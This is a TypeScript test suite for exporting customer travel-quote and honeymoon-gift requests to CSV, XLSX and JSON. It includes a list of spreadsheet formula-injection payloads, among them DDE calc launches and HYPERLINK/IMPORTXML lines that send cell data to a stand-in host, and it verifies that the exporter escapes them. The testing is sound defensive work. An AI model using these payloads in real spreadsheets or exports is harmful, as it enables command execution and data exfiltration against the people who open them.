import { spawnSync } from "node:child_process"
import { readFileSync, readdirSync, statSync } from "node:fs"
import { createRequire } from "node:module"
import { join } from "node:path"
import { describe, expect, test } from "vitest"
import { childAgeOptions, quoteOptions } from "#domain/quotes/quote-options.ts"
import { type Engine, type TestApp, createTestApp, engines } from "#test/create-test-app.ts"
import { csvLine, escapeFormula } from "./csv.ts"
import { insertManyQuotes, sendGift, sendQuote } from "#test/fixtures/request-samples.ts"
import { type ExportFormat, exportRequests } from "./export-requests.server.ts"
import { type FilterOptions, readRequestFilter } from "./request-filter.server.ts"

/** Known formula injection payloads: they run a program or fetch an address when the sheet is opened. */
const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?d="&A1;"clique")',
  '=IMPORTXML(CONCAT("http://x.example",A1),"//a")',
  "+1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  "﹢1",
  "\u22121+1",
  "\u3000＝1",
  '="a;b"',
  '";=1+1;"',
  "%0A-3+3+cmd|' /C calc'!D2",
]

async function exported(app: TestApp, format: ExportFormat, options: FilterOptions = {}): Promise<Buffer> {
  const file = join(app.folder, "exports", `pedidos.${format}`)
  await exportRequests(app.services, readRequestFilter(options), format, file)
  return readFileSync(file)
}

const describedQuote = {
  name: 'Ana; "Conceição"',
  email: "ana@exemplo.com.br",
  cellphone: "+351 912 345 678",
  phone: "(41) 3000-0000",
  country: 20,
  countryCity: 0,
  package_id: 2002,
  numberOfAdults: "10 ou +",
  numberOfChild: 2,
  ageOfChildEnd: ["Até 1 ano e 11 meses", "12-17 anos"],
  hasDateFlexibility: "+ ou – (2 dias)",
  willNeedTour: "Não",
  observation: 'Olá, tudo bem?\nSegunda linha; com "aspas" e 🏖️',
  marketing: true,
}
const studies = {
  type: "I",
  name: "Caio",
  email: "caio@exemplo.com.br",
  whenYouWantToTravel: "Acima de 12 meses",
  howLongDoYouWantToStudy: "+ de 1 ano",
  interestProgram: "Estudo + Trabalho",
  youWillNeedAccommodation: "Não",
  country: 1,
  countryCity: 101,
}

const sentQuote = {
  "Recebido em": "20/11/2026 12:00:00",
  Situação: "novo",
  "Último contato": "",
  "Tipo de viagem": "Lazer/Negócios",
  Página: "layout-tourism",
  Nome: 'Ana; "Conceição"',
  "E-mail": "ana@exemplo.com.br",
  Celular: "'+351912345678",
  Telefone: "(41)3000-0000",
  Estado: "Paraná (PR)",
  Cidade: "Curitiba",
  "Código IBGE da cidade": "4106902",
  "País de destino": "Brasil",
  "Cidade de destino": "Ainda não sei",
  "Quando quer viajar?": "",
  "Data de ida": "14/03/2027",
  "Data de volta": "19/03/2027",
  "Tem flexibilidade de datas?": "+ ou – (2 dias)",
  "Número de adultos": "10 ou +",
  "Número de crianças": "2",
  "Idades das crianças": "Até 1 ano e 11 meses, 12-17 anos",
  "Vai precisar de passeios?": "Não",
  "Vai precisar de veículo?": "",
  Observações: 'Olá, tudo bem?\nSegunda linha; com "aspas" e 🏖️',
  "Código do pacote": "2002",
  "Aceitou promoções": "Sim",
  "Aceitou em": "20/11/2026 12:00:00",
}

describe.each(engines)("an export on %s", (engine: Engine) => {
  test("as CSV opens in a Brazilian spreadsheet, and contains what was sent", async () => {
    await using app = await createTestApp(engine, { content: "demo" })
    await sendQuote(app.services, describedQuote)
    app.setNow("2026-11-20T12:00:01-03:00")
    await sendQuote(app.services, studies)
    const bytes = await exported(app, "csv", { kind: "orcamento" })
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    const [study, trip, ...more] = records(bytes)
    expect(more).toEqual([])
    expect(trip).toMatchObject(sentQuote)
    expect(study).toMatchObject({
      Nome: "Caio",
      "Quanto tempo quer estudar?": "+ de 1 ano",
      "Programa de interesse": "Estudo + Trabalho",
      "Data de ida": "",
      "Número de crianças": "",
      "Aceitou promoções": "Não",
    })
    expect(statSync(join(app.folder, "exports/pedidos.csv")).mode & 0o777).toBe(0o600)
    expect(readdirSync(join(app.folder, "exports"))).toEqual(["pedidos.csv"])
  })

  test("of gifts contains the couple, the quota with its value and the receipt's name", async () => {
    await using app = await createTestApp(engine, { content: "demo" })
    const quota = await app.db
      .selectFrom("honeymoon_quota")
      .selectAll()
      .where("honeymoon_id", "=", 1)
      .executeTakeFirstOrThrow()
    await sendGift(app.services, { cote_id: quota.id, message: "-1 dia; beijos" })
    const [gift] = records(await exported(app, "csv", { kind: "lua-de-mel" }))
    expect(gift).toMatchObject({
      Casal: "Ana & Pedro",
      Nome: "Tia Rosa",
      "Telefone/Celular": "(41)98000-0000",
      "Sua mensagem": "'-1 dia; beijos",
      Cota: quota.title,
      Valor: (quota.value_cents / 100).toFixed(2).replace(".", ","),
      Comprovante: expect.stringMatching(/^[0-9a-f]{32}\.receipt$/),
    })
  })

  test("never contains a formula: CSV escapes it with an apostrophe, a spreadsheet has a text cell", async () => {
    await using app = await createTestApp(engine, { content: "demo" })
    for (const [index, formula] of formulas.entries())
      await sendQuote(app.services, {
        name: `${formula} x`,
        observation: formula,
        cellphone: `(41) 9${String(index).padStart(8, "0")}`,
      })
    const lines = records(await exported(app, "csv", { kind: "orcamento" }))
    expect(lines).toHaveLength(formulas.length)
    for (const cell of lines.flatMap((line) => [line.Nome, line.Observações]))
      expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢\u2212]/u)
    const { sheets, text } = workbook(await exported(app, "xlsx", { kind: "orcamento" }))
    expect(text).not.toContain("<f>")
    const stored = (
      await app.db
        .selectFrom("quote_request")
        .select("name")
        .orderBy("created_at", "desc")
        .orderBy("protocol", "desc")
        .execute()
    ).map(({ name }) => name)
    expect(sheets[0]?.map((row) => row.Nome)).toEqual(stored)
  })

  test("as a spreadsheet has a sheet per kind, a frozen header row, dates as dates, numbers as numbers", async () => {
    await using app = await createTestApp(engine, { content: "demo" })
    // Property names that every plain object inherits.
    for (const name of ["constructor", "__proto__", "toString"])
      await sendQuote(app.services, { name, observation: name })
    app.setNow("2026-11-20T12:00:01-03:00")
    await sendQuote(app.services, describedQuote)
    await sendGift(app.services, { cote_title: "Jantar", cote_value: "1.250,50" })
    const { sheets, text, names } = workbook(await exported(app, "xlsx"))
    expect(names).toEqual(["Orçamentos", "Lua de mel"])
    expect(text.match(/<pane [^>]*ySplit="1"[^>]*state="frozen"/g)).toHaveLength(2)
    expect(text).toContain("<cols>")
    const [trip, ...odd] = sheets[0] ?? []
    expect(trip).toMatchObject({
      ...sentQuote,
      Celular: "+351912345678",
      "Recebido em": days("2026-11-20T12:00:01Z"),
      "Aceitou em": days("2026-11-20T12:00:01Z"),
      "Data de ida": days("2027-03-14"),
      "Data de volta": days("2027-03-19"),
      "Código do pacote": 2002,
      "Último contato": undefined,
      "Quando quer viajar?": undefined,
      "Vai precisar de veículo?": undefined,
    })
    expect(odd.map((row) => String(row.Nome).trim()).sort()).toEqual(["__proto__", "constructor", "toString"])
    expect(sheets[1]?.[0]).toMatchObject({
      Casal: "Ana & Pedro",
      Cota: "Jantar",
      Valor: 1250.5,
      "Recebido em": days("2026-11-20T12:00:01Z"),
    })
  })

  test("as JSON has the documented shape, with every field as sent", async () => {
    await using app = await createTestApp(engine, { content: "demo" })
    const quote = await sendQuote(app.services, describedQuote)
    const gift = await sendGift(app.services)
    const all = JSON.parse((await exported(app, "json")).toString())
    expect(Object.keys(all)).toEqual(["exportedAt", "quotes", "gifts"])
    expect(all.quotes).toEqual([
      {
        protocol: quote,
        status: "new",
        receivedAt: "2026-11-20T15:00:00.000Z",
        lastContactAt: null,
        cityIbgeCode: "4106902",
        request: expect.objectContaining({
          type: "T",
          name: describedQuote.name,
          nuberOfChildren: 2,
          ageOfChildEnd: [expect.anything(), { code: "12-17 anos", label: "12-17 anos" }],
          marketing: expect.objectContaining({ channel: "site" }),
        }),
        context: { package: expect.objectContaining({ id: 2002 }) },
      },
    ])
    expect(all.gifts).toEqual([
      {
        protocol: gift,
        status: "new",
        receivedAt: "2026-11-20T15:00:00.000Z",
        lastContactAt: null,
        honeymoonId: 1,
        couple: "Ana & Pedro",
        name: "Tia Rosa",
        email: "rosa@exemplo.com.br",
        phone: "41980000000",
        message: "Felicidades!",
        quota: { id: null, title: null, cents: null },
        receipt: { name: expect.any(String), bytes: expect.any(Number) },
      },
    ])
    expect(JSON.parse((await exported(app, "json", { status: "spam" })).toString())).toMatchObject({
      quotes: [],
      gifts: [],
    })
  })

  test("of many requests is streamed in bounded memory", async () => {
    await using app = await createTestApp(engine, { content: "demo" })
    await insertManyQuotes(app.db, 12_000)
    const file = join(app.folder, "muitos.csv")
    // The rows alone are twice as large.
    const node = ["--max-old-space-size=40", "--disable-warning=ExperimentalWarning"]
    const { status, stdout, stderr } = spawnSync(
      process.execPath,
      [...node, "cli/requests.ts", "export", "--kind", "orcamento", "--output", file],
      {
        encoding: "utf8",
        timeout: 100_000,
        env: { ...process.env, NODE_OPTIONS: "", DATA_DIR: app.folder, DATABASE_URL: app.url ?? "" },
      },
    )
    expect([status, stdout], stderr).toEqual([0, expect.stringContaining("12000 pedidos")])
    expect(statSync(file).size).toBeGreaterThan(6_000_000)
  }, 120_000)
})

test("a spreadsheet that would be too large is refused with advice, and no file is left", async () => {
  await using app = await createTestApp("sqlite", { content: "demo" })
  await insertManyQuotes(app.db, 20_001)
  await expect(exported(app, "xlsx")).rejects.toThrow(/20\.000 pedidos.*--format csv/)
  expect(readdirSync(join(app.folder, "exports"))).toEqual([])
}, 60_000)

test("our own texts are never escaped, whatever they begin with", () => {
  // Escaping would change these four, so columns of our own texts are marked as trusted.
  const ownTexts = [...Object.values(quoteOptions).flat(), ...childAgeOptions]
  expect(ownTexts.filter((option) => escapeFormula(option) !== option)).toEqual([
    "+ de 1 ano",
    "+ ou – (2 dias)",
    "+ ou – (1 semana)",
    "+ ou – (1 mês)",
  ])
  expect(csvLine(ownTexts.slice(0, 2))).toBe("Indicação;Site de Busca (Google)\r\n")
})

test("any text survives a round trip through CSV", () => {
  const texts = ["", "a", ";", '"', 'a"b', "\r\n", "a\nb", " a ", ",", "\t", "=1", "ação"]
  expect(readCsv(csvLine(texts))).toEqual([texts])
})

/** The lines of a CSV file by their headings. */
function records(bytes: Buffer): Array<Record<string, string>> {
  const [headings = [], ...lines] = readCsv(bytes.toString("utf8").replace(/^\uFEFF/, ""))
  return lines.map((line) => {
    expect(line).toHaveLength(headings.length)
    return Object.fromEntries(headings.map((heading, index) => [heading, line[index] ?? ""]))
  })
}

/** Parses RFC 4180 with `;`. */
function readCsv(text: string): string[][] {
  const lines: string[][] = []
  let line: string[] = []
  let cell = ""
  let quoted = false
  for (let index = 0; index < text.length; index++) {
    const character = text[index]
    if (quoted && character === '"' && text[index + 1] === '"') cell += text[++index]
    else if (character === '"') quoted = !quoted
    else if (quoted) cell += character
    else if (character === ";") [line, cell] = [[...line, cell], ""]
    else if (character === "\r" && text[index + 1] === "\n") {
      lines.push([...line, cell])
      ;[line, cell] = [[], ""]
      index += 1
    } else cell += character
  }
  expect([quoted, line, cell]).toEqual([false, [], ""])
  return lines
}

type SheetRow = Record<string, string | number | undefined>

/** Parses an XLSX file: rows keyed by their headings. */
function workbook(bytes: Buffer): { names: string[]; sheets: SheetRow[][]; text: string } {
  // fflate is a dependency of write-excel-file.
  const { unzipSync } = createRequire(createRequire(import.meta.url).resolve("write-excel-file/node"))("fflate") as {
    unzipSync: (bytes: Uint8Array) => Record<string, Uint8Array>
  }
  const files = Object.fromEntries(
    Object.entries(unzipSync(bytes)).map(([name, content]) => [name, Buffer.from(content).toString("utf8")]),
  )
  const strings = [...(files["xl/sharedStrings.xml"] ?? "").matchAll(/<t[^>]*>([^]*?)<\/t>/g)].map((match) =>
    unescapeXml(match[1] ?? ""),
  )
  const xmls = Object.keys(files)
    .filter((name) => name.startsWith("xl/worksheets/sheet"))
    .sort()
    .map((name) => files[name] ?? "")
  const sheets = xmls.map((xml) => {
    const [headings = new Map(), ...rows] = [...xml.matchAll(/<row [^>]*>([^]*?)<\/row>/g)].map((match) =>
      readCells(match[1] ?? "", strings),
    )
    return rows.map((row) => Object.fromEntries([...headings].map(([column, heading]) => [heading, row.get(column)])))
  })
  const names = [...(files["xl/workbook.xml"] ?? "").matchAll(/<sheet [^>]*name="([^"]+)"/g)].map(
    (match) => match[1] ?? "",
  )
  return { names, sheets, text: xmls.join("") }
}

function readCells(row: string, strings: string[]): Map<string, string | number | undefined> {
  return new Map(
    [...row.matchAll(/<c r="([A-Z]+)\d+"([^>]*)><v>([^<]*)<\/v><\/c>/g)].map(
      ([, column = "", attributes = "", value = ""]) => [
        column,
        attributes.includes('t="s"') ? strings[Number(value)] : Number(value),
      ],
    ),
  )
}

function unescapeXml(text: string): string {
  return text
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&apos;", "'")
    .replaceAll("&#39;", "'")
    .replaceAll("&amp;", "&")
}

/** Days since the end of 1899, as sheets count. */
function days(instant: string): unknown {
  return expect.closeTo((Date.parse(instant) - Date.UTC(1899, 11, 30)) / 86_400_000, 4)
}
